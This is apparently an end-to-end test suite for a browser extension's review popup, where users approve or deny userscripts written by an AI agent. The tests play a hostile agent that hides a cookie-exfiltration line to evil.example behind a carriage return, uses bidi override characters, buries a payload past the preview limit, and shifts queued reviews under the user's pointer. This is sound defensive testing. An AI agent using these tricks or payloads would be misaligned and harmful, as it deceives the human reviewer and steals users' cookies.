// The review surface tried as a hostile agent would: a line hidden behind a carriage return, an
// effect hidden behind "no change to the source", a payload past the preview, reviews queued
// while the user's pointer rests on Approve, one caller filling the queue for another, and a
// timer that outlives the decision. The user is played in the real popup; the agent is the test
// host's official MCP SDK client; a second copy of the host is a second caller.
import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import { after, before, describe, test } from "node:test";
import { HOST_ID, PROVIDER_ID, buildHostVariant, launch } from "./lib/harness.mjs";
import { until as untilFor, sleep, show } from "./lib/util.mjs";

const T = { timeout: 120_000 };
const POPUP = `chrome-extension://${PROVIDER_ID}/popup.html`;
const until = (get, pred, timeout = 8000) => untilFor(get, pred, timeout);
const userscript = (name, body = [], match = ["https://example.com/*"]) => [
  "// ==UserScript==", `// @name        ${name}`, "// @namespace   review-e2e",
  ...match.map((m) => `// @match       ${m}`), "// ==/UserScript==", ...body, "",
].join("\n");

describe("the review surface", () => {
  let h, second, secondPage, s, s2;
  const lumo2 = (fn, ...args) => secondPage.evaluate(([fn, args]) => window.lumo[fn](...args), [fn, args]);
  const reviews = async () => (await h.internal("state.get")).reviews;
  const resetRate = async () => (await h.providerPage()).evaluate(() => chrome.storage.session.remove("rateWindow"));

  /** Starts a tool call in a host page without waiting; `settle(key)` waits for it (bounded). */
  async function start(page, key, session, name, args) {
    await page.evaluate(([key, s, name, args]) => {
      window.__calls ??= {};
      window.__calls[key] = window.lumo.callTool(s, name, args);
    }, [key, session, name, args]);
  }
  const settle = (page, key, ms = 10_000) => page.evaluate(([key, ms]) =>
    Promise.race([window.__calls[key], new Promise((r) => setTimeout(() => r("still waiting"), ms))]), [key, ms]);

  async function openPopup() {
    const page = await h.context.newPage();
    await page.setViewportSize({ width: 380, height: 600 });
    await page.goto(POPUP);
    await page.waitForFunction(() => document.getElementById("sessions")?.childElementCount > 0);
    return page;
  }
  const reviewItem = (popup, summary) => popup.locator("#reviews > li.review").filter({ has: popup.getByText(summary, { exact: true }) });
  const denyAll = async () => { for (const r of await reviews()) await h.internal("reviews.decide", { review: r.id, approve: false }).catch(() => {}); };

  before(async () => {
    const key = generateKeyPairSync("rsa", { modulusLength: 2048 }).publicKey.export({ type: "spki", format: "der" }).toString("base64");
    second = await buildHostVariant("review-second-host", key);
    h = await launch({ extraExtensions: [second.dir] });
    secondPage = await h.context.newPage();
    await secondPage.goto(`chrome-extension://${second.id}/host.html`);
    await secondPage.waitForFunction(() => typeof window.lumo === "object");
    await h.internal("policy.add", { id: HOST_ID, name: "Agent" });
    await h.internal("policy.add", { id: second.id, name: "Other agent" });
    await h.setUserScriptsAccess(PROVIDER_ID, true);
    s = await h.lumo("connect", PROVIDER_ID);
    s2 = await lumo2("connect", PROVIDER_ID);
    assert.equal(typeof s, "number", show(s));
    assert.equal(typeof s2, "number", show(s2));
  });
  after(async () => { await h?.close(); });

  test("a line hidden behind a lone CR shows as its own line, and invisible characters are marked", T, async () => {
    await h.internal("policy.setSwitch", { name: "review", value: true });
    const host = await h.hostPage();
    const popup = await openPopup();
    try {
      const source = userscript("Quiet helper", ["// just a comment\rfetch('https://evil.example/' + document.cookie)", "let ok\u202E = 1;"]);
      await start(host, "cr", s, "write_script", { source });
      const item = reviewItem(popup, 'Create the script "Quiet helper"');
      await item.waitFor({ timeout: 8000 });
      const pre = item.getByLabel("Changes", { exact: true });
      const lines = (await pre.innerText()).split("\n");
      assert.ok(lines.includes("+// just a comment⟨U+000D⟩"), `the comment line ends at the CR, marked: ${show(lines)}`);
      assert.ok(lines.includes("+fetch('https://evil.example/' + document.cookie)"), `the payload is a line of its own: ${show(lines)}`);
      assert.ok(lines.includes("+let ok⟨U+202E⟩ = 1;"), `the override is visible: ${show(lines)}`);
      const raw = await pre.textContent();
      assert.ok(!raw.includes("\r") && !raw.includes("\u202E"), "no raw CR or override reaches the page");
      assert.equal(await pre.locator("mark.invisible").count(), 2, "each marker is highlighted");
      await item.getByRole("button", { name: "Deny", exact: true }).click();
      assert.equal((await settle(host, "cr")).structuredContent?.error_code, "USER_REJECTED");
    } finally {
      await popup.close();
      await denyAll();
    }
  });

  test("the options page shows a stored source as JavaScript reads it: the hidden line and the override visible", T, async () => {
    await h.internal("policy.setSwitch", { name: "review", value: false });
    const name = "Stored quiet";
    const made = await h.lumo("callTool", s, "write_script", { source: userscript(name, ["// note\rsteal()", "let a\u202E = 1;"]) });
    assert.equal(made.isError, false, show(made));
    const options = await h.context.newPage();
    try {
      await options.goto(`chrome-extension://${PROVIDER_ID}/options.html`);
      const row = options.getByRole("row").filter({ hasText: made.structuredContent.script.uuid });
      await row.getByText("Source (read-only)", { exact: true }).click();
      const pre = row.getByLabel(`Source of ${name}`, { exact: true });
      const lines = (await until(() => pre.innerText(), (t) => t.includes("steal"))).split("\n");
      assert.ok(lines.includes("// note⟨U+000D⟩") && lines.includes("steal()"), `two lines, the CR marked: ${show(lines)}`);
      assert.ok(lines.includes("let a⟨U+202E⟩ = 1;"), show(lines));
      assert.equal(await pre.locator("mark.invisible").count(), 2);
    } finally {
      await options.close();
    }
  });

  test("write_script with the same source and enabled: true on a disabled script says it re-enables it", T, async () => {
    await h.internal("policy.setSwitch", { name: "review", value: false });
    const source = userscript("Bank helper", ["console.log('bank');"], ["https://bank.example/*"]);
    const made = await h.lumo("callTool", s, "write_script", { source });
    const { uuid } = made.structuredContent.script;
    await h.internal("scripts.setEnabled", { uuid, enabled: false });
    await h.internal("policy.setSwitch", { name: "review", value: true });
    const host = await h.hostPage();
    const popup = await openPopup();
    try {
      await start(host, "reenable", s, "write_script", { source, uuid, revision: 2, enabled: true });
      const item = reviewItem(popup, 'Enable the script "Bank helper"');
      await item.waitFor({ timeout: 8000 });
      const effects = await item.getByRole("list", { name: "Effects" }).getByRole("listitem").allTextContents();
      assert.ok(effects.some((e) => e.startsWith("Re-enables the script")), `the effect is stated: ${show(effects)}`);
      assert.ok(effects.includes("The code does not change"), show(effects));
      await item.getByRole("button", { name: "Deny", exact: true }).click();
      assert.equal((await settle(host, "reenable")).structuredContent?.error_code, "USER_REJECTED");
      const got = await h.lumo("callTool", s, "get_script", { uuid });
      assert.equal(got.structuredContent.script.enabled, false, "still disabled");
    } finally {
      await popup.close();
      await denyAll();
    }
  });

  test("Approve says what the write did: a write the user's own edit made stale is \"not applied\", and turning writes off withdraws a waiting one", T, async () => {
    await resetRate();
    await h.internal("policy.setSwitch", { name: "review", value: false });
    const made = await h.lumo("callTool", s, "write_script", { source: userscript("Stale approval", ["one();"]) });
    const { uuid } = made.structuredContent.script;
    await h.internal("policy.setSwitch", { name: "review", value: true });
    const host = await h.hostPage();
    const popup = await openPopup();
    try {
      await start(host, "stale", s, "write_script", { uuid, revision: 1, source: userscript("Stale approval", ["agent();"]) });
      const item = reviewItem(popup, 'Replace the script "Stale approval"');
      await item.waitFor({ timeout: 8000 });
      // The user changes the script by hand while the review waits, then approves it.
      await h.internal("scripts.save", { uuid, revision: 1, source: userscript("Stale approval", ["mine();"]) });
      const approve = item.getByRole("button", { name: "Approve", exact: true });
      await until(() => approve.isEnabled(), (v) => v, 5000);
      await approve.click();
      await item.getByText(/^Approved, but not applied: the script changed after this was asked for/).waitFor({ timeout: 8000 });
      assert.match(await popup.locator("#status").innerText(), /^Approved, but not applied/);
      assert.equal((await settle(host, "stale")).structuredContent?.error_code, "CONFLICT");
      const got = await h.lumo("callTool", s, "get_script", { uuid });
      assert.match(got.structuredContent.script.source, /mine\(\);/, "the user's edit stands");
      // A write that can apply says so.
      await start(host, "fresh", s, "write_script", { uuid, revision: 2, source: userscript("Stale approval", ["agent();"]) });
      const next = reviewItem(popup, 'Replace the script "Stale approval"').filter({ hasNot: popup.getByText(/^Approved, but not applied/) });
      await next.waitFor({ timeout: 8000 });
      const approveNext = next.getByRole("button", { name: "Approve", exact: true });
      await until(() => approveNext.isEnabled(), (v) => v, 5000);
      await approveNext.click();
      await next.getByText("Approved.", { exact: true }).waitFor({ timeout: 8000 });
      assert.equal((await settle(host, "fresh")).isError, false);
      // Writes turned off while one waits: it ends at once, WRITE_DISABLED, and leaves the popup.
      await start(host, "off", s, "write_script", { uuid, revision: 3, source: userscript("Stale approval", ["late();"]) });
      await until(reviews, (r) => r.length === 1);
      await h.internal("policy.setSwitch", { name: "writes", value: false });
      assert.equal((await settle(host, "off", 5000)).structuredContent?.error_code, "WRITE_DISABLED");
      assert.deepEqual(await reviews(), []);
    } finally {
      await h.internal("policy.setSwitch", { name: "writes", value: true });
      await popup.close();
      await denyAll();
    }
  });

  test("\"Approve all from this session\" approves that session's writes already waiting, and no other caller's", T, async () => {
    await resetRate();
    await h.internal("policy.setSwitch", { name: "review", value: true });
    const host = await h.hostPage();
    const popup = await openPopup();
    try {
      await start(host, "all1", s, "write_script", { source: userscript("All one") });
      await until(reviews, (r) => r.length === 1);
      await start(secondPage, "other", s2, "write_script", { source: userscript("Not theirs") });
      await until(reviews, (r) => r.length === 2);
      await start(host, "all2", s, "write_script", { source: userscript("All two") });
      await until(reviews, (r) => r.length === 3);
      const first = reviewItem(popup, 'Create the script "All one"');
      const second = reviewItem(popup, 'Create the script "All two"');
      await second.waitFor({ timeout: 8000 });
      const all = first.getByRole("button", { name: "Approve all from this session" });
      await until(() => all.isEnabled(), Boolean, 5000);
      await all.click();
      assert.equal((await settle(host, "all1")).isError, false);
      const two = await settle(host, "all2");
      assert.equal(two.isError, false, `the session's other waiting write was approved: ${show(two)}`);
      await second.getByText("Approved with “Approve all” on another write of this session.").waitFor({ timeout: 8000 });
      await first.getByText(/Its other waiting write was approved with it\.$/).waitFor({ timeout: 8000 });
      const left = await reviews();
      assert.deepEqual(left.map((r) => r.summary), ['Create the script "Not theirs"'], "the other caller's write still waits");
      const listed = await h.lumo("callTool", s, "list_scripts", {});
      const names = listed.structuredContent.scripts.map((x) => x.name);
      assert.ok(names.includes("All one") && names.includes("All two"), show(names));
    } finally {
      await popup.close();
      await denyAll();
      assert.equal((await settle(secondPage, "other")).structuredContent?.error_code, "USER_REJECTED");
      // Off here, on in the next test: that drops this session's allowance.
      await h.internal("policy.setSwitch", { name: "review", value: false });
    }
  });

  test("a payload after line 400: the popup says the change is not all shown, and shows all of it on request", T, async () => {
    await h.internal("policy.setSwitch", { name: "review", value: true });
    const host = await h.hostPage();
    const popup = await openPopup();
    try {
      const filler = Array.from({ length: 450 }, (_, i) => `// harmless line ${i}`);
      await start(host, "long", s, "write_script", { source: userscript("Long one", [...filler, "exfiltrate(document.cookie);"]) });
      const item = reviewItem(popup, 'Create the script "Long one"');
      await item.waitFor({ timeout: 8000 });
      const pre = item.getByLabel("Changes", { exact: true });
      assert.ok(!(await pre.textContent()).includes("exfiltrate"), "the preview stops before the payload");
      const note = item.getByRole("note");
      const said = await note.textContent();
      assert.match(said, /Not all of the change is shown: 400 of \d+ lines; \d+ more lines are not shown\./, said);
      const deny = item.getByRole("button", { name: "Deny", exact: true });
      const denyAt = (await deny.boundingBox()).y;
      await item.getByRole("button", { name: "Show the whole change", exact: true }).click();
      const whole = await until(() => pre.innerText(), (t) => t.includes("exfiltrate"));
      assert.equal((await deny.boundingBox()).y, denyAt, "showing the whole change moves no button (a double click must not land on another)");
      const lines = whole.split("\n");
      assert.equal(lines.at(-1), "+exfiltrate(document.cookie);", `the last line is the payload: ${show(lines.slice(-3))}`);
      assert.match(await note.textContent(), /Showing the whole change: \d+ lines\./);
      const box = await pre.evaluate((e) => ({ scroll: e.scrollHeight, client: e.clientHeight, overflow: getComputedStyle(e).overflowY }));
      assert.ok(box.scroll > box.client && box.overflow === "auto", `the whole change scrolls: ${show(box)}`);
      await item.getByRole("button", { name: "Deny", exact: true }).click();
      assert.equal((await settle(host, "long")).structuredContent?.error_code, "USER_REJECTED");
    } finally {
      await popup.close();
      await denyAll();
    }
  });

  test("reviews queued while the pointer rests on Approve: nothing moves, and the click approves the review it names", T, async () => {
    await resetRate();
    await h.internal("policy.setSwitch", { name: "review", value: true });
    const host = await h.hostPage();
    // A review above the benign one, from the other agent, which it will cancel later.
    const other = await lumo2("connect", PROVIDER_ID);
    await start(secondPage, "above", other, "write_script", { source: userscript("Above") });
    await until(reviews, (r) => r.length === 1);
    await start(host, "benign", s, "write_script", { source: userscript("Benign") });
    await until(reviews, (r) => r.length === 2);
    const popup = await openPopup();
    try {
      const benign = reviewItem(popup, 'Create the script "Benign"');
      const approve = benign.getByRole("button", { name: "Approve", exact: true });
      await approve.scrollIntoViewIfNeeded();
      await until(() => approve.isEnabled(), Boolean);
      const box = await approve.boundingBox();
      const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
      await popup.mouse.move(x, y);
      await approve.evaluate((b) => { b.__intended = true; });
      // The agent queues more writes, and the review above goes away, while the user hovers.
      // Each waits for its review before the next is sent, so arrival order is the order sent.
      for (let i = 0; i < 5; i++) {
        await start(host, `evil${i}`, s, "write_script", { source: userscript(`Evil ${i}`, ["steal();"]) });
        await until(reviews, (r) => r.some((x) => x.summary === `Create the script "Evil ${i}"`));
      }
      await lumo2("close", other);
      await until(reviews, (r) => r.length === 6 && !r.some((x) => x.summary.includes("Above")));
      await until(() => popup.locator("#reviews > li.review").count(), (n) => n === 7);
      await sleep(1200); // past any re-render and the new items' arming delay
      const under = await popup.evaluate(([x, y]) => {
        const b = document.elementFromPoint(x, y)?.closest("button");
        return { intended: b?.__intended === true, review: b?.dataset.review, text: b?.textContent };
      }, [x, y]);
      assert.ok(under.intended, `the button under the pointer is still the one the user aimed at: ${show(under)}`);
      const titles = await popup.locator("#reviews > li.review > p:first-child").allTextContents();
      assert.deepEqual(titles.slice(1), ['Create the script "Benign"', ...[0, 1, 2, 3, 4].map((i) => `Create the script "Evil ${i}"`)], `arrival order: ${show(titles)}`);
      await popup.mouse.down();
      await popup.mouse.up();
      const ok = await settle(host, "benign");
      assert.equal(ok.isError, false, `the intended write was approved: ${show(ok)}`);
      assert.equal(ok.structuredContent.script.name, "Benign");
      const left = await reviews();
      assert.deepEqual(left.map((r) => r.summary), [0, 1, 2, 3, 4].map((i) => `Create the script "Evil ${i}"`), "every queued write still waits");
      assert.ok(left.every((r, i) => i === 0 || left[i - 1].seq < r.seq), "listed by arrival");
    } finally {
      await popup.close();
      await denyAll();
      for (let i = 0; i < 5; i++) await settle(host, `evil${i}`, 2000);
    }
  });

  test("a review that appears under the pointer does not take the click that was already coming", T, async () => {
    await resetRate();
    await h.internal("policy.setSwitch", { name: "review", value: true });
    const host = await h.hostPage();
    const popup = await openPopup();
    try {
      await start(host, "sudden", s, "write_script", { source: userscript("Sudden") });
      // The user clicks the instant the review is drawn, where its Approve button landed.
      const handle = await popup.waitForFunction(() => document.querySelector('#reviews > li.review button.primary'), null, { polling: "raf", timeout: 8000 });
      const box = await handle.asElement().boundingBox();
      await popup.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
      await sleep(300);
      assert.equal(await settle(host, "sudden", 100), "still waiting", "the click did not approve a review shown a moment before");
      assert.equal((await reviews()).length, 1, "the review still waits");
      // Once armed, the same click works.
      const approve = reviewItem(popup, 'Create the script "Sudden"').getByRole("button", { name: "Approve", exact: true });
      await until(() => approve.isEnabled(), Boolean, 3000);
      await approve.click();
      assert.equal((await settle(host, "sudden")).isError, false);
    } finally {
      await popup.close();
      await denyAll();
    }
  });

  test("one caller cannot fill the review queue for another", T, async () => {
    await resetRate();
    await h.internal("policy.setSwitch", { name: "review", value: true });
    const host = await h.hostPage();
    try {
      for (let i = 0; i < 16; i++) await start(host, `flood${i}`, s, "write_script", { source: userscript(`Flood ${i}`) });
      const flooded = await until(reviews, (r) => r.length >= 8);
      await sleep(500);
      assert.equal((await reviews()).length, 8, `one caller holds at most 8 reviews: ${flooded.length}`);
      const limited = await settle(host, "flood15", 3000);
      assert.equal(limited.structuredContent?.error_code, "RATE_LIMITED", show(limited));
      assert.match(limited.content[0].text, /of your writes are already waiting/);
      await start(secondPage, "mine", s2, "write_script", { source: userscript("Other agent's") });
      const mine = await until(reviews, (r) => r.some((x) => x.caller === second.id));
      const theirs = mine.find((x) => x.caller === second.id);
      assert.ok(theirs, `the other caller's write waits for the user instead of being refused: ${show(await settle(secondPage, "mine", 100))}`);
      await h.internal("reviews.decide", { review: theirs.id, approve: true });
      const r = await settle(secondPage, "mine");
      assert.equal(r.isError, false, show(r));
    } finally {
      await denyAll();
      for (let i = 0; i < 16; i++) await settle(host, `flood${i}`, 2000);
    }
  });

  test("the review's timer and keep-alive end when the review is decided", T, async () => {
    await resetRate();
    await h.internal("policy.setSwitch", { name: "review", value: true });
    const worker = h.context.serviceWorkers().find((w) => w.url().startsWith(`chrome-extension://${PROVIDER_ID}/`));
    assert.ok(worker, "the provider's worker");
    // Watch the worker's own timers: long ones (the review wait) must not outlive the decision.
    await worker.evaluate(() => {
      const live = (globalThis.__liveTimers = new Map());
      const set = globalThis.setTimeout;
      const clear = globalThis.clearTimeout;
      globalThis.setTimeout = function (fn, ms, ...rest) {
        const id = set.call(this, (...a) => { live.delete(id); if (typeof fn === "function") fn(...a); }, ms, ...rest);
        if (ms >= 10_000) live.set(id, ms);
        return id;
      };
      globalThis.clearTimeout = function (id) { live.delete(id); return clear.call(this, id); };
    });
    const host = await h.hostPage();
    await start(host, "timed", s, "write_script", { source: userscript("Timed") });
    const [review] = await until(reviews, (r) => r.length === 1);
    const during = await until(() => worker.evaluate(() => [...globalThis.__liveTimers.values()]), (t) => t.length > 0);
    assert.ok(during.length > 0, `a timer bounds the wait: ${show(during)}`);
    await h.internal("reviews.decide", { review: review.id, approve: false });
    assert.equal((await settle(host, "timed")).structuredContent?.error_code, "USER_REJECTED");
    const left = await until(() => worker.evaluate(() => [...globalThis.__liveTimers.values()]), (t) => t.length === 0, 3000);
    // The keep-alive call runs between timer steps, so with no timer left none can follow.
    assert.deepEqual(left, [], "no timer of the decided review is left running");
  });
});
